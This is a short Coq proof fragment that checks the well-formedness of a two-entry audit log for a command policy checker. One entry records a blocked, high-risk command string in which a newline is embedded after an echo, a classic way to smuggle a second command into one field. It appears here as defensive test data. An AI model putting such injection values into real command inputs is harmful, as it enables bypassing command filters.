  assert (H : Forall (fun ev : string * string * list (string * json) =>
            let '(ts, ty, data) := ev in
            forallb flat (map snd data) = true /\
            NoDup ("timestamp" :: "type" :: map fst data))
    [(ts0, "policy_check", [("command", JStr (String.concat "" ["echo ";String dq "";"a";String "010" "";"b"])); ("allowed", JBool false);
                             ("risk", JStr "high"); ("reason", JStr "Blocked pattern")]);
     (ts0, "execution", [("command", JStr "ls"); ("output", JStr (substring 0 500 "a.txt"));
                          ("sandboxed", JBool true)])]).
  { repeat constructor; simpl; intuition discriminate. }
  split; [exact H|].
  exact (audit_log_readback _ H).
Defined.

End AuditExtra.
